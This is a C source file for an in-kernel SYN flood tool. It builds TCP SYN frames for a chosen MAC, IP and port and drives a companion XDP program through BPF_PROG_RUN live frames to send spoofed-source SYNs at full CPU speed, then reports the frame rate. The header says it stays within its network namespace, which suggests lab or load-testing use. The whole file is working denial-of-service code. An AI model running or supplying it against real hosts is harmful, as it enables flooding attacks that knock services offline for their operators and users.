/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A SYN flood with random sources, made in the kernel: flood OBJECT DEVICE TARGET-MAC TARGET PORT
 * SECONDS. Sends to the device's peer as fast as one CPU can (BPF_PROG_RUN with live frames) and
 * prints how many frames went out. Stays in its namespace; needs root and Linux 5.18.
 */
#include <arpa/inet.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <errno.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define ROUND 200000

/* The last two bytes (urgent pointer) carry the header sum without source: flood.bpf.c reads them.
 */
struct frame {
	uint8_t eth[14];
	uint8_t ip[20];
	uint8_t tcp[20];
};

static uint16_t header_sum(const uint8_t *ip)
{
	uint32_t sum = 0;
	uint16_t word;
	int i;

	for (i = 0; i < 20; i += 2) {
		memcpy(&word, ip + i, 2);
		sum += word;
	}
	sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t) ~((sum & 0xffff) + (sum >> 16));
}

static int build(struct frame *f, const char *mac, const char *target, int port)
{
	uint16_t dport = htons((uint16_t)port), sum;
	unsigned int m[6];
	int i;

	memset(f, 0, sizeof(*f));
	if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
		return -EINVAL;
	for (i = 0; i < 6; i++)
		f->eth[i] = (uint8_t)m[i];
	f->eth[6] = 2;
	f->eth[12] = 8;
	f->ip[0] = 0x45;
	f->ip[3] = 40;
	f->ip[8] = 64;
	f->ip[9] = 6;
	if (inet_pton(AF_INET, target, f->ip + 16) != 1)
		return -EINVAL;
	memcpy(f->tcp + 2, &dport, 2);
	f->tcp[12] = 0x50;
	f->tcp[13] = 2; /* SYN */
	f->tcp[14] = 0xff;
	sum = header_sum(f->ip);
	memcpy(f->tcp + 18, &sum, 2);
	return 0;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct frame f;
	struct xdp_md ctx = { .data_end = sizeof(f) };
	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = &f, .data_size_in = sizeof(f),
		    .ctx_in = &ctx, .ctx_size_in = sizeof(ctx), .repeat = ROUND,
		    .flags = BPF_F_TEST_XDP_LIVE_FRAMES, .batch_size = BATCH);
	struct bpf_object *obj;
	struct bpf_program *prog;
	struct bpf_map *bss;
	double start, end;
	uint64_t sent = 0;
	uint32_t zero = 0;
	int r;

	if (argc != 7) {
		fprintf(stderr, "usage: flood OBJECT DEVICE MAC TARGET PORT SECONDS\n");
		return 2;
	}
	ctx.ingress_ifindex = if_nametoindex(argv[2]);
	if (!ctx.ingress_ifindex || build(&f, argv[3], argv[4], atoi(argv[5]))) {
		fprintf(stderr, "no such device, or not an address\n");
		return 2;
	}
	obj = bpf_object__open(argv[1]);
	if (!obj || bpf_object__load(obj)) {
		perror(argv[1]);
		return 1;
	}
	prog = bpf_object__find_program_by_name(obj, "pk_flood");
	bss = bpf_object__find_map_by_name(obj, ".bss");
	if (!prog || !bss)
		return 1;
	start = now();
	end = start + atof(argv[6]);
	while (now() < end) {
		r = bpf_prog_test_run_opts(bpf_program__fd(prog), &opts);
		if (r) {
			fprintf(stderr, "live frames: %s\n", strerror(-r));
			return 1;
		}
	}
	if (bpf_map__lookup_elem(bss, &zero, sizeof(zero), &sent, sizeof(sent), 0))
		return 1;
	printf("%llu frames in %.2f s, %.0f a second\n", (unsigned long long)sent, now() - start,
	       (double)sent / (now() - start));
	return 0;
}
